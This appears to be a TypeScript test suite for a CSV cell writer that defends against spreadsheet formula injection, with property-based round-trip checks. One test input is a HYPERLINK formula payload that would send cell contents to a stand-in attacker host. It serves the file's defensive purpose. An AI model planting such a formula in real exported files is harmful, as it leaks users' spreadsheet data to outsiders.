import fc from 'fast-check'
import { expect, test } from 'vitest'
import { csvCell, csvLine } from './csv.ts'

test.each([
  ['=HYPERLINK("http://evil.example?"&A1)', `"'=HYPERLINK(""http://evil.example?""&A1)"`],
  ['+1', "'+1"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t=1"],
  ['\r=1', `"'\r=1"`],
  ['\n=1', `"'\n=1"`],
  ['\uff1d1', "'\uff1d1"],
  ['a, b', '"a, b"'],
  ['say "hi"', '"say ""hi"""'],
  ['two\nlines', '"two\nlines"'],
  ['plain = text', 'plain = text'],
  ["'quoted", "'quoted"],
  ['', ''],
])('%j is written %j', (value, cell) => {
  expect(csvCell(value)).toBe(cell)
})

test('numbers stay numbers, nothing stays nothing', () => {
  expect(csvLine([-5, 0, null, 'x'])).toBe('-5,0,,x\r\n')
})

test('whatever is written is read back the same but for the apostrophe, and no cell begins like a formula', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", 'a', 'ü') }), { minLength: 1, maxLength: 5 }), (cells) => {
      const read = parseLine(csvLine(cells))
      expect(read).toHaveLength(cells.length)
      for (const [index, cell] of read.entries()) {
        expect(cell).not.toMatch(/^[=+\-@\t\r\n]/)
        expect([cells[index], `'${cells[index]}`]).toContain(cell)
      }
    }),
  )
})

/** RFC 4180, the plain way: one record. */
function parseLine(line: string): string[] {
  const cells: string[] = []
  let at = 0
  for (;;) {
    let cell = ''
    if (line[at] === '"') {
      for (at++; ; at++) {
        if (line[at] !== '"') cell += line[at]
        else if (line[at + 1] === '"') cell += line[at++]
        else break
      }
      at++
    } else while (line[at] !== ',' && line.slice(at, at + 2) !== '\r\n') cell += line[at++]
    cells.push(cell)
    if (line.slice(at) === '\r\n') return cells
    if (line[at] !== ',') throw new Error(`no comma at ${at} of ${JSON.stringify(line)}`)
    at++
  }
}
